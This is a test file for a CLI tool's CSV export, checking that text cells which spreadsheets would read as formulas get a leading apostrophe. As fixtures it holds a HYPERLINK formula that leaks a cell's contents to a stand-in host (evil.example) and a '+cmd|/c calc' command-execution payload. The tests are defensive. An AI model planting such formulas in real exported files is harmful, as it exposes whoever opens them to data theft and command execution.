// kaigi export --format csv: a text cell a spreadsheet program would read as a formula (=, +, -, @, tab, CR first) is
// written with a leading ' (OWASP's CSV injection rule), so opening the file runs nothing; numbers stay numbers.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvText } from '../../cli/csv.js';
import { Runtime } from '../../runtime/runtime.js';
import { tabByKey } from '../../sheets-schema/index.js';
import { ok } from '../council-helpers.js';
import { kaigi } from './serve-process.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';

describe('csvText', () => {
  it('neutralises every text cell that starts a formula, and quotes as RFC 4180 does', () => {
    const rows = [
      { v: HYPERLINK },
      { v: '+1+1' },
      { v: '-2+3' },
      { v: '@SUM(1)' },
      { v: '\t=1' },
      { v: '\r=1' },
      { v: '-3' },
      { v: 'a=b' },
      { v: -3 },
      { v: 2.5 },
      { v: true },
      { v: '' },
      { v: undefined },
    ];
    const lines = csvText(['v'], rows).split('\n');
    expect(lines[0]).toBe('v');
    expect(lines.slice(1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"`,
      "'+1+1",
      "'-2+3",
      "'@SUM(1)",
      "'\t=1",
      `"'\r=1"`,
      // A text that looks like a negative number is still text: a program would read it as a formula's sign.
      "'-3",
      'a=b',
      // A number is written as the number it is: no program reads -3 as anything else.
      '-3',
      '2.5',
      'true',
      '',
      '',
    ]);
  });
});

describe('kaigi export --format csv', () => {
  it('writes a KPI note that is a formula as text, and a negative value as a number', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kaigi-csv-'));
    const book = path.join(dir, 'c.xlsx');
    const rt = new Runtime();
    ok(await rt.run('setup', [], { kind: 'menu' }));
    // Typed into the KPI tab by a person (a data tab: nothing checks what is typed there).
    const sheet = rt.workbook.sheetByName(tabByKey('kpi').name)!;
    rt.workbook.setValues(sheet, 2, 1, 2, 5, [
      [new Date('2026-01-05T00:00:00Z'), 'tanaka', 'contacts', -3, HYPERLINK],
      [new Date('2026-01-06T00:00:00Z'), '@tanaka', 'contacts', 4, '+cmd|/c calc'],
    ]);
    await rt.save(book);
    await rt.close();
    const r = kaigi(['export', '--workbook', book, '--tab', 'KPI', '--format', 'csv']);
    expect(r.status, r.stderr).toBe(0);
    const lines = r.stdout.trim().split('\n');
    expect(lines[0]).toBe('date,member_id,metric,value,note');
    expect(lines[1]).toMatch(/^2026-01-0\d,tanaka,contacts,-3,"'=HYPERLINK\(""http:\/\/evil\.example/);
    expect(lines[2]).toMatch(/^2026-01-0\d,'@tanaka,contacts,4,'\+cmd\|\/c calc$/);
  });
});
